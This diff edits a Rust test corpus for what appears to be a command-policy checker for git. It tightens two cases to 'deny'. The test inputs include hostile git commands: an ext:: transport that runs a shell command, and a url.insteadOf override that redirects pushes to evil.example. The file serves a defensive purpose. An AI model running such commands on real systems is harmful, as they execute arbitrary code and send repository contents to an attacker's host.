@@ -862,10 +862,12 @@ fn git_remote_corpus() {
             "repository-not-allowed",
         ),
         (
+            // Issue 14: a remote off the allowlist is refused whatever its form (the
+            // transport that runs a command is also unanalyzable; the refusal wins).
             "ext-transport",
             "git clone 'ext::sh -c touch% /tmp/pwned' x".into(),
-            "ask",
-            "unanalyzable-command",
+            "deny",
+            "repository-not-allowed",
         ),
         (
             "upload-pack",
@@ -882,8 +884,8 @@ fn git_remote_corpus() {
         (
             "insteadof-on-command-line",
             "git -c url.https://evil.example/.insteadOf=https://github.com/ push origin".into(),
-            "ask",
-            "unanalyzable-command",
+            "deny",
+            "repository-not-allowed",
         ),
         (
             "ssh-command-env",
